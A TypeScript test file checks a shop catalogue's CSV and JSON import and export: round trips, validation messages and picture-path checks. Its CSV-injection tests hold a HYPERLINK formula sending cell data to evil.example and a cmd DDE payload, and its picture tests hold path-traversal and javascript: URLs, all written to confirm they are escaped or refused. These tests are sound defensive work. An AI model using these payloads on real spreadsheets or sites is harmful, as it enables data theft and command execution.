import type * as fs from "node:fs";
import { statSync } from "node:fs";
import path from "node:path";

import { parse as parseCsv } from "csv-parse/sync";
import { stringify as stringifyCsv } from "csv-stringify/sync";
import fc from "fast-check";
import { beforeEach, describe, expect, it, vi } from "vitest";

import {
  CATALOGUE_COLUMNS,
  type CatalogueFormat,
  type CatalogueRecord,
  describeProblem,
  formatOfFile,
  type RowProblem,
} from "~/backends/catalogue-file/catalogue-record.server";
import { readCatalogueFile } from "~/backends/catalogue-file/read-catalogue-file.server";
import { writeCatalogueFile } from "~/backends/catalogue-file/write-catalogue-file.server";
import { CATEGORIES } from "~/models/catalogue/categories";

// The real file system, counted: the picture checks are cached per path.
vi.mock("node:fs", async (importOriginal) => {
  const real = await importOriginal<typeof fs>();
  return { ...real, statSync: vi.fn(real.statSync) };
});

/**
 * The catalogue file's rules (docs/catalogue.md#import-and-export), read against the real
 * public/ folder and its product pictures.
 */

const PUBLIC_DIR = path.resolve("public");

const AMPLIFIER_IMAGES = [1, 2, 3].map((n) => `/images/products/max98357a-i2s-class-d-amplifier-breakout-${n}.svg`);
const SENSOR_IMAGES = [1, 2].map((n) => `/images/products/dht22-temperature-humidity-sensor-module-${n}.svg`);
const BOARD_IMAGE = "/images/products/esp32-c3-super-mini-wi-fi-ble-board-1.svg";

const amplifier: CatalogueRecord = {
  id: 1,
  name: "MAX98357A I2S Class-D Amplifier Breakout",
  description: "A tiny mono class-D amplifier: add a 4 Ω speaker and you have sound.",
  category: "audio",
  price: 5.95,
  original_price: 7.5,
  in_stock: true,
  stock_count: 142,
  rating: 4.6,
  reviews: 212,
  image: AMPLIFIER_IMAGES[0]!,
  images: AMPLIFIER_IMAGES,
  features: ["I2S digital input, no external DAC needed", "Up to 3.2 W into 4 Ω at 5 V"],
  specifications: { "Amplifier IC": "MAX98357A", "Output Power": "3.2 W @ 4 Ω, 5 V" },
  created_at: "2025-01-01 00:00:00.123456+00",
  withdrawn: false,
};

/** Text a CSV writer must quote, a spreadsheet must keep, and a search must escape. */
const sensor: CatalogueRecord = {
  id: 17,
  name: 'DHT_22 "Pro" Sensor, 100% calibrated',
  description:
    'Reads -40 to 80 °C.\nSecond line, with "quotes", commas and a tab:\there.\r\nWindows line; lone \r too.',
  category: "sensors",
  price: 0,
  original_price: null,
  in_stock: false,
  stock_count: 0,
  rating: 0,
  reviews: 0,
  image: SENSOR_IMAGES[0]!,
  images: SENSOR_IMAGES,
  features: ['Measures 0-100% RH, "±2 %"', "Range: -40 to 80 °C"],
  specifications: { "Temperature Range": "-40 - 80 °C", Resolution: "0.1 °C", Pins: "VCC, DATA, NC, GND", Note: "" },
  created_at: "2025-06-01T12:30:00.5Z",
  withdrawn: true,
};

/** A product to add: no id, no rating, no sale price, no timestamp, no lists. */
const newProduct: CatalogueRecord = {
  id: null,
  name: "ESP32-C3 Super Mini",
  description: "A thumb-sized Wi-Fi and BLE board.",
  category: "development-boards",
  price: 99_999_999.99,
  original_price: null,
  in_stock: true,
  stock_count: 2_147_483_647,
  rating: null,
  reviews: 3,
  image: BOARD_IMAGE,
  images: [],
  features: [],
  specifications: {},
  created_at: null,
  withdrawn: false,
};

/** A picture elsewhere, over https. */
const remote: CatalogueRecord = {
  ...newProduct,
  id: 9_007_199_254_740_991,
  name: "Remote picture",
  image: "https://images.example.com/board.png?size=800",
  images: ["https://images.example.com/board.png?size=800", BOARD_IMAGE],
  rating: 5,
  created_at: "2024-12-31T23:59:59.999999+05:30",
};

const RECORDS = [amplifier, sensor, newProduct, remote];

function read(text: string, format: CatalogueFormat) {
  return readCatalogueFile(text, format, { publicDir: PUBLIC_DIR });
}

/** A record's CSV cells by column, as the writer writes them. */
function cellsOf(record: CatalogueRecord): Record<string, string> {
  const [header, row] = parseCsv(writeCatalogueFile([record], "csv"));
  return Object.fromEntries(header!.map((column, i) => [column, row![i]!]));
}

/** A CSV file of `rows`, with the first row's columns as its header unless given. */
function csvFile(rows: Record<string, string>[], header: string[] = Object.keys(rows[0]!)): string {
  return stringifyCsv([header, ...rows.map((row) => header.map((column) => row[column] ?? ""))]);
}

function jsonFile(products: unknown): string {
  return JSON.stringify(products, null, 2);
}

describe("writeCatalogueFile and readCatalogueFile", () => {
  it.each(["json", "csv"] as const)("read back what they wrote (%s), and write it again the same", (format) => {
    const text = writeCatalogueFile(RECORDS, format);
    const { records, problems } = read(text, format);
    expect(problems).toEqual([]);
    expect(records).toEqual(RECORDS);
    expect(writeCatalogueFile(records, format)).toBe(text);
  });

  it("writes JSON with two-space indents, the columns in file order and a final line break", () => {
    const text = writeCatalogueFile([{ ...newProduct, id: 3, name: "Reordered" }], "json");
    expect(text.endsWith("}\n]\n")).toBe(true);
    expect(Object.keys((JSON.parse(text) as object[])[0]!)).toEqual(CATALOGUE_COLUMNS);
    expect(text).toContain('\n  {\n    "id": 3,\n    "name": "Reordered",');
  });

  it("writes CSV with a header, empty cells for null, true/false, JSON lists and \\n line ends", () => {
    const text = writeCatalogueFile([newProduct], "csv");
    expect(text).toBe(
      `${CATALOGUE_COLUMNS.join(",")}\n` +
        `,ESP32-C3 Super Mini,A thumb-sized Wi-Fi and BLE board.,development-boards,99999999.99,,true,2147483647,,3,${BOARD_IMAGE},[],[],{},,false\n`,
    );
    expect(writeCatalogueFile([], "csv")).toBe(`${CATALOGUE_COLUMNS.join(",")}\n`);
    expect(writeCatalogueFile([], "json")).toBe("[]\n");
  });

  it("quotes a CSV cell with a lone \\r, so it does not read back as a new row", () => {
    const text = writeCatalogueFile([sensor], "csv");
    expect(text).toContain('"Reads -40 to 80 °C.\nSecond line, with ""quotes""');
    expect(parseCsv(text)).toHaveLength(2);
  });
});

/** What a spreadsheet opening a CSV file takes as the start of a formula (OWASP: CSV injection). */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

/** Every product cell of a CSV file (the header left out). */
function productCells(text: string): string[] {
  return (parseCsv(text) as string[][]).slice(1).flat();
}

describe("CSV cells a spreadsheet would run as formulas", () => {
  /** A security review's two cells (docs/catalogue.md#formulas-in-a-spreadsheet), as a supplier's feed could carry them. */
  const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Datasheet")';
  const COMMAND = "+cmd|' /C calc'!A0";
  const fed: CatalogueRecord = { ...amplifier, name: HYPERLINK, description: COMMAND };

  it("writes the review's cells with a ' in front, and reads them back as they were", () => {
    const text = writeCatalogueFile([fed], "csv");
    expect(cellsOf(fed)).toMatchObject({ name: `'${HYPERLINK}`, description: `'${COMMAND}` });
    expect(read(text, "csv")).toEqual({ records: [fed], problems: [] });
    expect(writeCatalogueFile(read(text, "csv").records, "csv")).toBe(text);
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+44 20 7946 0000 adapter", "'+44 20 7946 0000 adapter"],
    ["-5", "'-5"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["'=1+1", "''=1+1"],
    ["'Quoted' cable", "''Quoted' cable"],
    ["'", "''"],
    ["Plain", "Plain"],
    [" =1+1", " =1+1"],
    ["1-2-3", "1-2-3"],
  ])("writes the name %j as the cell %j, and reads it back", (name, cell) => {
    const record = { ...amplifier, name };
    expect(cellsOf(record).name).toBe(cell);
    expect(read(writeCatalogueFile([record], "csv"), "csv").records).toEqual([record]);
  });

  it("escapes a description starting with a tab or a carriage return (not a line feed), which a name may not hold", () => {
    for (const description of ["\tIndented", "\r\nAfter a blank line", "\nAfter a blank line"]) {
      const record = { ...amplifier, description };
      const escaped = description.startsWith("\n") ? description : `'${description}`;
      expect(cellsOf(record).description, JSON.stringify(description)).toBe(escaped);
      expect(read(writeCatalogueFile([record], "csv"), "csv").records).toEqual([record]);
    }
  });

  it("writes numbers as numbers, and JSON cells as JSON, never escaped", () => {
    const record = { ...newProduct, price: 0, features: ["=1+1"], specifications: { "-": "@" } };
    const cells = cellsOf(record);
    expect(cells).toMatchObject({
      price: "0",
      stock_count: "2147483647",
      features: '["=1+1"]',
      specifications: '{"-":"@"}',
    });
    expect(read(writeCatalogueFile([record], "csv"), "csv").records).toEqual([record]);
  });

  it("takes one ' off a cell only before a formula's first character or another '", () => {
    const cells = cellsOf(amplifier);
    const named = (name: string) => read(csvFile([{ ...cells, name }]), "csv").records[0]?.name;
    expect(named("'=1+1")).toBe("=1+1");
    expect(named("''=1+1")).toBe("'=1+1");
    expect(named("'''")).toBe("''");
    expect(named("'Quoted' cable")).toBe("'Quoted' cable");
    expect(named("=1+1")).toBe("=1+1");
  });

  it("leaves JSON alone: a spreadsheet does not open it", () => {
    const text = writeCatalogueFile([fed], "json");
    expect(text).toContain(`"name": ${JSON.stringify(HYPERLINK)}`);
    expect(read(text, "json").records).toEqual([fed]);
  });
});

/** Text the rules allow: any characters but control characters (a description keeps tabs and line breaks). */
function allowedText(maxLength: number, multiline = false) {
  const keep = (c: string) => c.codePointAt(0)! >= 0x20 || (multiline && "\t\n\r".includes(c));
  const tricky = fc.constantFrom(",", '"', "'", ";", "\n", "\r", "\t", "Ω", "°C", "%", "_", "\\", "{", "[", " ", "a");
  // What a spreadsheet takes as a formula, and the ' that escapes it, in front of any text.
  const formulaStart = fc.string({ unit: fc.constantFrom(...FORMULA_STARTS, "'"), minLength: 1, maxLength: 3 });
  const body = fc.oneof(fc.string({ unit: "binary", maxLength }), fc.string({ unit: tricky, maxLength }));
  return fc
    .oneof(
      body,
      fc.tuple(formulaStart, body).map(([start, rest]) => start + rest),
    )
    .map((text) => [...text].filter(keep).join(""))
    .filter((text) => text.trim() !== "");
}

const pictures = fc.constantFrom(...AMPLIFIER_IMAGES, ...SENSOR_IMAGES, BOARD_IMAGE, "https://example.com/a%20b.png");

const validRecord = fc
  .record({
    hasId: fc.boolean(),
    name: allowedText(60),
    description: allowedText(200, true),
    category: fc.constantFrom(...CATEGORIES.map((c) => c.slug)),
    price: fc.integer({ min: 0, max: 9_999_999_999 }).map((cents) => cents / 100),
    original_price: fc.option(
      fc.integer({ min: 0, max: 9_999_999_999 }).map((cents) => cents / 100),
      { nil: null },
    ),
    in_stock: fc.boolean(),
    stock_count: fc.integer({ min: 0, max: 2_147_483_647 }),
    rating: fc.option(
      fc.integer({ min: 0, max: 50 }).map((tenths) => tenths / 10),
      { nil: null },
    ),
    reviews: fc.integer({ min: 0, max: 2_147_483_647 }),
    firstPicture: pictures,
    images: fc.option(fc.array(pictures, { maxLength: 3 }), { nil: null }),
    features: fc.array(allowedText(40), { maxLength: 4 }),
    specifications: fc.dictionary(allowedText(20), fc.oneof(fc.constant(""), allowedText(40)), { maxKeys: 4 }),
    created_at: fc.option(
      fc.oneof(
        fc
          .date({ min: new Date("0001-01-01T00:00:00Z"), max: new Date("9999-12-31T23:59:59Z"), noInvalidDate: true })
          .map((date) => date.toISOString()),
        fc.constant("2025-01-01 00:00:00.123456+00"),
      ),
      { nil: null },
    ),
    withdrawn: fc.boolean(),
  })
  .map(({ hasId, firstPicture, images, ...rest }): CatalogueRecord & { hasId: boolean } => ({
    ...rest,
    hasId,
    id: null,
    image: firstPicture,
    images: images === null ? [] : [firstPicture, ...images],
  }));

/** Records with unique ids (some without one), in column order as the reader builds them. */
const validRecords = fc
  .array(validRecord, { maxLength: 8 })
  .map((records) => records.map(({ hasId, ...record }, i) => ({ ...record, id: hasId ? 1_000 + i : null })));

describe("the round trip, for any valid records", () => {
  it.each(["json", "csv"] as const)("reads back what was written (%s)", (format) => {
    fc.assert(
      fc.property(validRecords, (records) => {
        const text = writeCatalogueFile(records, format);
        const back = read(text, format);
        expect(back.problems).toEqual([]);
        expect(back.records).toEqual(records);
        expect(writeCatalogueFile(back.records, format)).toBe(text);
      }),
      { numRuns: 200 },
    );
  });
});

describe("the CSV, for any valid records", () => {
  it("has no cell a spreadsheet would run as a formula", () => {
    fc.assert(
      fc.property(validRecords, (records) => {
        for (const cell of productCells(writeCatalogueFile(records, "csv"))) {
          expect(FORMULA_STARTS, JSON.stringify(cell)).not.toContain(cell.charAt(0));
        }
      }),
      { numRuns: 200 },
    );
  });
});

describe("readCatalogueFile, CSV", () => {
  it("reads an export of Supabase's table editor: t/f, PostgreSQL timestamps, generated columns", () => {
    const cells = { ...cellsOf(amplifier), in_stock: "t", name_sort: "max98357a…", search_text: "anything" };
    const text = csvFile(
      [cells, { ...cellsOf(sensor), in_stock: "F" }, { ...cellsOf(newProduct), in_stock: "TRUE" }],
      ["name_sort", ...CATALOGUE_COLUMNS, "search_text"],
    );
    const { records, problems } = read(text, "csv");
    expect(problems).toEqual([]);
    expect(records).toEqual([amplifier, sensor, newProduct]);
  });

  it("reads a file with a byte order mark, Windows line ends and blank rows", () => {
    const text = `\uFEFF${writeCatalogueFile([amplifier, newProduct], "csv").replace(/\n(?=\d|,|$)/g, "\r\n")}\r\n,,,\r\n`;
    const { records, problems } = read(text, "csv");
    expect(problems).toEqual([]);
    expect(records).toEqual([amplifier, newProduct]);
  });

  it("takes empty cells as null, [] and {} where the column allows it, and plain numbers with spaces or 0s", () => {
    const cells = { ...cellsOf(amplifier), images: "", features: "", specifications: "", price: " 5.950 ", rating: "" };
    const { records, problems } = read(csvFile([cells]), "csv");
    expect(problems).toEqual([]);
    expect(records).toEqual([{ ...amplifier, images: [], features: [], specifications: {}, rating: null }]);
  });

  /**
   * Row 2 has a description over three lines, so row 4, the bad one, starts on line 6: the
   * problem is on row 4, as a spreadsheet shows it.
   */
  function badRow(column: string, cell: string): RowProblem[] {
    const rows = [
      cellsOf({ ...amplifier, description: "One\nTwo\nThree" }),
      cellsOf({ ...sensor, id: 2 }),
      { ...cellsOf({ ...sensor, id: 7 }), [column]: cell },
    ];
    const { records, problems } = read(csvFile(rows), "csv");
    expect(records.map((record) => record.id)).toEqual(problems.length > 0 ? [1, 2] : [1, 2, 7]);
    return problems;
  }

  it.each([
    ["id", "0", "must be a whole number from 1 to 9,007,199,254,740,991 (or empty, for a new product), not 0"],
    ["id", "1.5", "must be a whole number from 1"],
    ["id", "9007199254740992", "must be a whole number from 1"],
    ["name", "", "must not be empty"],
    ["name", "   ", "must not be empty"],
    ["name", "x".repeat(301), "must be at most 300 characters (it has 301)"],
    ["name", "🔌".repeat(300), null],
    ["name", "Two\nlines", "must be one line, without tabs or line breaks"],
    ["name", "Nul\u0000here", "must not contain a NUL character (\\u0000): PostgreSQL cannot store it"],
    ["description", "x".repeat(10_001), "must be at most 10,000 characters (it has 10,001)"],
    ["description", "Bell\u0007", "must not contain the control character U+0007"],
    ["category", "gadgets", "must be one of audio, components, development-boards, displays, iot-wireless,"],
    ["price", "$5.95", 'must be a plain number like 5.95 (no currency sign, no thousands separator), not "$5.95"'],
    [
      "price",
      "1,000.00",
      'must be a plain number like 5.95 (no currency sign, no thousands separator), not "1,000.00"',
    ],
    ["price", "-1", "must be a number of at least 0 with at most 2 decimals, not -1"],
    ["price", "5.955", "must be a number of at least 0 with at most 2 decimals, not 5.955"],
    ["price", "100000000", "must be below 100,000,000, not 100000000"],
    ["price", "", "must not be empty"],
    ["original_price", "€3", "must be a plain number like 5.95"],
    ["in_stock", "yes", 'must be true or false, not "yes"'],
    ["in_stock", "", "must not be empty"],
    ["stock_count", "-1", "must be a whole number from 0 to 2,147,483,647, not -1"],
    ["stock_count", "2147483648", "must be a whole number from 0 to 2,147,483,647, not 2147483648"],
    ["reviews", "1.5", "must be a whole number from 0 to 2,147,483,647, not 1.5"],
    ["rating", "5.5", "must be a number from 0 to 5 with at most 1 decimal, not 5.5"],
    ["rating", "4.55", "must be a number from 0 to 5 with at most 1 decimal, not 4.55"],
    ["images", "not json", 'must be JSON like ["/images/products/name-1.svg"], or empty; "not json" is not JSON'],
    ["images", "{a,b}", "(not PostgreSQL's {a,b})"],
    ["images", `"${SENSOR_IMAGES[0]}"`, "must be a list like"],
    ["features", '["Fine", ""]', "entry 2 must not be empty"],
    ["features", "[1]", "entry 1 must be text, not the number 1"],
    ["features", `["${"x".repeat(501)}"]`, "entry 1 must be at most 500 characters"],
    ["specifications", '["a"]', 'must be an object like {"Voltage":"5 V"}, not a list'],
    ["specifications", '{"":"x"}', 'the name "" must not be empty'],
    ["specifications", '{"Voltage":5}', 'the value of "Voltage" must be text, not the number 5'],
    ["specifications", `{"${"k".repeat(201)}":"v"}`, "must be at most 200 characters"],
    ["specifications", `{"Voltage":"${"v".repeat(501)}"}`, 'the value of "Voltage" must be at most 500 characters'],
    ["specifications", '{"Tab\\tkey":"v"}', "must be one line"],
    ["created_at", "yesterday", "must be a date and time with its time zone, like 2025-01-01 00:00:00+00"],
    ["created_at", "2025-02-30T00:00:00Z", "must be a date and time with its time zone"],
    ["created_at", "2025-01-01 00:00:00", "must be a date and time with its time zone"],
  ])("refuses %s %j on its spreadsheet row", (column, cell, message) => {
    const problems = badRow(column, cell);
    if (message === null) return expect(problems).toEqual([]);
    const id = column === "id" ? {} : { id: 7 };
    expect(problems).toEqual([{ row: 4, ...id, field: column, message: expect.stringContaining(message) }]);
  });

  it("refuses pictures the shop cannot show", () => {
    const pictures: [string, string][] = [
      ["/images/products/no-such-picture.svg", `is not a file under ${PUBLIC_DIR}`],
      ["/images/products", "is not a file under"],
      ["/images/../../package.json", "must not contain . or .. between its slashes"],
      ["/images/%2e%2e/%2e%2e/package.json", "must not contain . or .. between its slashes"],
      ["/.hidden.svg", "must not name a file or folder starting with ."],
      [`${BOARD_IMAGE}?v=2`, "must name a file, without ? or #"],
      [
        "http://example.com/a.png",
        'must be an https:// address or a path under public/, not "http://example.com/a.png"',
      ],
      ["javascript:alert(1)", "must be an https:// address"],
      ["//example.com/a.png", "must not start with //"],
      ["images/products/a.svg", "must be a path under public/ starting with /"],
      [` ${BOARD_IMAGE}`, "must not start or end with spaces"],
    ];
    for (const [picture, message] of pictures) {
      const problems = badRow("image", picture);
      expect(problems, picture).toEqual([{ row: 4, id: 7, field: "image", message: expect.stringContaining(message) }]);
    }
  });

  it("refuses each missing picture of images, and an image that is not the first of images", () => {
    const images = JSON.stringify([SENSOR_IMAGES[0], "/images/products/gone-1.svg", "http://example.com/b.png"]);
    expect(badRow("images", images)).toEqual([
      {
        row: 4,
        id: 7,
        field: "images",
        message: expect.stringMatching(/^entry 2 is not a file under .*gone-1\.svg"$/),
      },
      { row: 4, id: 7, field: "images", message: expect.stringMatching(/^entry 3 must be an https:\/\/ address/) },
    ]);
    expect(badRow("image", SENSOR_IMAGES[1]!)).toEqual([
      {
        row: 4,
        id: 7,
        field: "image",
        message: `must be the first of images ("${SENSOR_IMAGES[0]}"): the pages show image as the first picture of images`,
      },
    ]);
  });

  it("lists every problem of every row", () => {
    const rows = [
      { ...cellsOf(amplifier), price: "$5.95", rating: "9" },
      cellsOf(sensor),
      { ...cellsOf(newProduct), category: "", in_stock: "maybe" },
    ];
    expect(read(csvFile(rows), "csv").problems.map(({ row, id, field }) => ({ row, id, field }))).toEqual([
      { row: 2, id: 1, field: "price" },
      { row: 2, id: 1, field: "rating" },
      { row: 4, id: undefined, field: "category" },
      { row: 4, id: undefined, field: "in_stock" },
    ]);
  });

  it("refuses an id used twice, on the later row, naming the first", () => {
    const rows = [
      cellsOf({ ...amplifier, id: 5 }),
      cellsOf(newProduct),
      cellsOf(newProduct),
      cellsOf({ ...sensor, id: 5 }),
    ];
    const { records, problems } = read(csvFile(rows), "csv");
    expect(problems).toEqual([
      { row: 5, id: 5, field: "id", message: "5 is already on row 2: each id may appear once" },
    ]);
    expect(records).toHaveLength(3);
  });

  it("refuses unknown, unnamed and repeated columns on row 1, and reads the rows all the same", () => {
    const cells = { ...cellsOf(amplifier), colour: "red", "": "" };
    const { records, problems } = read(csvFile([cells], [...CATALOGUE_COLUMNS, "colour", "", "price"]), "csv");
    expect(problems).toEqual([
      {
        row: 1,
        field: "colour",
        message: `is not a column of the products table (the columns are ${CATALOGUE_COLUMNS.join(", ")})`,
      },
      { row: 1, field: "", message: "column 18 has no name" },
      { row: 1, field: "price", message: "appears twice in the header" },
    ]);
    expect(records).toEqual([amplifier]);
  });

  it("refuses missing required columns once, on row 1, and defaults the optional ones", () => {
    const cells = cellsOf(amplifier);
    const header = CATALOGUE_COLUMNS.filter((column) => !["name", "price", "images", "rating"].includes(column));
    const { records, problems } = read(csvFile([cells, { ...cells, id: "2" }], header), "csv");
    expect(problems).toEqual([
      { row: 1, field: "name", message: "is missing from the header (every product needs it)" },
      { row: 1, field: "price", message: "is missing from the header (every product needs it)" },
    ]);
    expect(records).toEqual([]);

    const optional = [
      "id",
      "original_price",
      "rating",
      "created_at",
      "images",
      "features",
      "specifications",
      "withdrawn",
    ];
    const only = read(
      csvFile(
        [cellsOf(newProduct)],
        CATALOGUE_COLUMNS.filter((c) => !optional.includes(c)),
      ),
      "csv",
    );
    expect(only).toEqual({ records: [newProduct], problems: [] });
  });

  it("says when the cells are separated by semicolons", () => {
    const text = `${CATALOGUE_COLUMNS.join(";")}\n1;Name\n`;
    expect(read(text, "csv").problems[0]).toEqual({
      row: 1,
      field: "",
      message: "has one column only, with ; in it: save the file with commas (,) between cells",
    });
  });

  it("refuses a row with more or fewer cells than the header", () => {
    const text = `${writeCatalogueFile([amplifier], "csv")}2,Short row\n`;
    expect(read(text, "csv").problems).toEqual([
      {
        row: 3,
        field: "",
        message: "has 2 cell(s), the header 16: is a comma missing, or a cell with a comma not quoted?",
      },
    ]);
  });

  it("stops at a broken quote, naming the row where reading stopped", () => {
    const good = writeCatalogueFile([{ ...amplifier, description: "Spans\ntwo lines" }], "csv");
    expect(read(`${good}2,"Never closed,x\n3,y\n`, "csv")).toEqual({
      records: [],
      problems: [{ row: 3, field: "", message: `a cell opens a quote (") that is never closed` }],
    });
    expect(read(`${good}2,A 5" screen,x\n`, "csv").problems).toEqual([
      { row: 3, field: "", message: expect.stringContaining(`a cell has a quote (") inside it`) },
    ]);
  });

  it("refuses an empty file, and takes a header alone as no products", () => {
    expect(read("", "csv").problems).toEqual([{ row: 0, field: "", message: expect.stringContaining("is empty") }]);
    expect(read(`${CATALOGUE_COLUMNS.join(",")}\n`, "csv")).toEqual({ records: [], problems: [] });
  });
});

describe("readCatalogueFile, JSON", () => {
  /** The second product is the bad one: position 2. */
  function badProduct(changes: Record<string, unknown>): RowProblem[] {
    const { records, problems } = read(jsonFile([amplifier, { ...sensor, ...changes }]), "json");
    expect(records.length).toBe(problems.length > 0 ? 1 : 2);
    return problems;
  }

  it.each([
    [{ price: "5.95" }, "price", 'must be a JSON number, without quotes (5.95), not the text "5.95"'],
    [{ price: 1e-7 }, "price", "must be a number of at least 0 with at most 2 decimals, not 1e-7"],
    [{ original_price: -0.5 }, "original_price", "must be a number of at least 0 with at most 2 decimals, not -0.5"],
    [{ rating: "4.5" }, "rating", "must be a JSON number"],
    [{ rating: 5.1 }, "rating", "must be a number from 0 to 5 with at most 1 decimal, not 5.1"],
    [{ stock_count: 1e21 }, "stock_count", "must be a whole number from 0 to 2,147,483,647, not 1e+21"],
    [{ reviews: null }, "reviews", "must not be null"],
    [{ in_stock: "true" }, "in_stock", 'must be true or false, not the text "true"'],
    [{ name: 42 }, "name", "must be text, not the number 42"],
    [{ name: "Nul\u0000" }, "name", "must not contain a NUL character"],
    [{ name: "\ud800 half" }, "name", "must not contain half of a character"],
    [{ description: "" }, "description", "must not be empty"],
    [{ category: "Sensors" }, "category", "must be one of audio, components,"],
    [{ images: "[]" }, "images", 'must be a list like ["/images/products/name-1.svg"], not the text "[]"'],
    [{ features: [["nested"]] }, "features", "entry 1 must be text, not a list"],
    [{ specifications: { Voltage: ["5 V"] } }, "specifications", 'the value of "Voltage" must be text, not a list'],
    [{ specifications: null }, "specifications", null],
    [{ created_at: 1735689600 }, "created_at", "must be a date and time with its time zone"],
    [
      { created_at: "" },
      "created_at",
      'must be a date and time with its time zone, like 2025-01-01 00:00:00+00 or 2025-01-01T00:00:00Z, not the text ""',
    ],
    [{ colour: "red" }, "colour", "is not a column of the products table"],
  ])("refuses %j at the product's position", (changes, field, message) => {
    const problems = badProduct(changes);
    if (message === null) return expect(problems).toEqual([]);
    expect(problems).toEqual([{ row: 2, id: 17, field, message: expect.stringContaining(message) }]);
  });

  it("refuses an id that is not a positive whole number, and a repeated one", () => {
    expect(badProduct({ id: "17" })).toEqual([
      { row: 2, field: "id", message: 'must be a JSON number, without quotes (12), not the text "17"' },
    ]);
    expect(badProduct({ id: -1 })).toEqual([
      {
        row: 2,
        field: "id",
        message: "must be a whole number from 1 to 9,007,199,254,740,991 (or empty, for a new product), not -1",
      },
    ]);
    expect(badProduct({ id: 1 })).toEqual([
      { row: 2, id: 1, field: "id", message: "1 is already on row 1: each id may appear once" },
    ]);
  });

  it("defaults absent optional keys, ignores the generated columns and reads -0 as 0", () => {
    const { id: _id, rating: _rating, images: _images, features: _features, ...rest } = newProduct;
    const product = { ...rest, specifications: undefined, price: 0, name_sort: "esp32", search_text: "esp32" };
    const text = jsonFile([product]).replace('"price": 0,', '"price": -0,');
    const { records, problems } = read(text, "json");
    expect(problems).toEqual([]);
    expect(records).toEqual([{ ...newProduct, price: 0 }]);
    expect(Object.is(records[0]!.price, 0)).toBe(true);
  });

  it("refuses missing required keys, each once", () => {
    const { name: _name, image: _image, ...rest } = sensor;
    expect(read(jsonFile([rest]), "json").problems).toEqual([
      { row: 1, id: 17, field: "name", message: "is missing" },
      { row: 1, id: 17, field: "image", message: "is missing" },
    ]);
  });

  it("refuses a product that is not an object", () => {
    expect(read(jsonFile([amplifier, [1, 2], "text", null]), "json").problems).toEqual([
      { row: 2, field: "", message: "must be an object with the product's columns, not a list" },
      { row: 3, field: "", message: `must be an object with the product's columns, not the text "text"` },
      { row: 4, field: "", message: "must be an object with the product's columns, not null" },
    ]);
  });

  it("refuses a broken file as one problem on row 0, saying where", () => {
    const { records, problems } = read('[\n  {"id": 1,\n   "name" "x"}\n]', "json");
    expect(records).toEqual([]);
    expect(problems).toEqual([
      { row: 0, field: "", message: expect.stringMatching(/^The file is not valid JSON: .*line 3/) },
    ]);
  });

  it("refuses a file that is an object, not a list", () => {
    expect(read(jsonFile({ products: [amplifier] }), "json")).toEqual({
      records: [],
      problems: [
        {
          row: 0,
          field: "",
          message: 'The file must be a JSON list of products ([{"id": 1, "name": …}, …]), not an object.',
        },
      ],
    });
  });

  it("reads a file with a byte order mark", () => {
    expect(read(`\uFEFF${writeCatalogueFile([amplifier], "json")}`, "json")).toEqual({
      records: [amplifier],
      problems: [],
    });
  });
});

describe("readCatalogueFile on a large file", () => {
  beforeEach(() => {
    vi.mocked(statSync).mockClear();
  });

  it("asks the disk once per picture, however many products show it", () => {
    const products = Array.from({ length: 2_000 }, (_, i) => ({ ...amplifier, id: i + 1 }));
    const { records, problems } = read(jsonFile(products), "json");
    expect(problems).toEqual([]);
    expect(records).toHaveLength(2_000);
    expect(vi.mocked(statSync)).toHaveBeenCalledTimes(AMPLIFIER_IMAGES.length);
  });

  it("lists the first 1,000 problems and counts the rest", () => {
    const products = Array.from({ length: 1_200 }, (_, i) => ({ ...amplifier, id: i + 1, price: "5.95" }));
    const { records, problems } = read(jsonFile(products), "json");
    expect(records).toEqual([]);
    expect(problems).toHaveLength(1_001);
    expect(problems[999]).toMatchObject({ row: 1_000, field: "price" });
    expect(problems[1_000]).toEqual({
      row: 0,
      field: "",
      message: "…and 200 more problem(s) on 200 row(s), not listed (only the first 1,000 are).",
    });
  });
});

describe("describeProblem", () => {
  it("says the row, the id when known, the column and what is wrong", () => {
    expect(
      describeProblem({
        row: 3,
        id: 17,
        field: "price",
        message: "must be a number of at least 0 with at most 2 decimals",
      }),
    ).toBe("row 3 (id 17), price: must be a number of at least 0 with at most 2 decimals");
    expect(describeProblem({ row: 4, field: "category", message: "must be one of audio" })).toBe(
      "row 4, category: must be one of audio",
    );
    expect(describeProblem({ row: 5, id: 2, field: "", message: "has 2 cell(s)" })).toBe("row 5 (id 2): has 2 cell(s)");
    expect(describeProblem({ row: 0, field: "", message: "The file is not valid JSON." })).toBe(
      "The file is not valid JSON.",
    );
  });

  it("reads well on a real problem", () => {
    const [problem] = read(jsonFile([{ ...amplifier, id: 17, price: -1 }]), "json").problems;
    expect(describeProblem(problem!)).toBe(
      "row 1 (id 17), price: must be a number of at least 0 with at most 2 decimals, not -1",
    );
  });
});

describe("formatOfFile", () => {
  it("knows a file's format by its extension, in any case", () => {
    expect(formatOfFile("catalogue.json")).toBe("json");
    expect(formatOfFile("/tmp/Export.CSV")).toBe("csv");
    expect(formatOfFile("catalogue.json.bak")).toBeNull();
    expect(formatOfFile("catalogue")).toBeNull();
    expect(formatOfFile("json")).toBeNull();
  });
});
